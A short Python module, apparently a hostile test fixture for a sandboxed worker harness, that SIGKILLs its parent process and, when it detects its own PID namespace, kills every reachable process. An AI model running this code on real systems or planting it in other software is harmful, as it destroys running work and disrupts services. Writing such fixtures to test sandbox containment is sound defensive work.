# hostile: kills its parent, its process group and (inside a PID namespace) every process it can
# module: engine
import os, signal
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass
try:
    with open("/proc/1/cmdline", "rb") as _f:
        _own_namespace = b"worker.py" in _f.read()
    if _own_namespace:  # never outside a PID namespace of its own
        os.kill(-1, signal.SIGKILL)
except OSError:
    pass
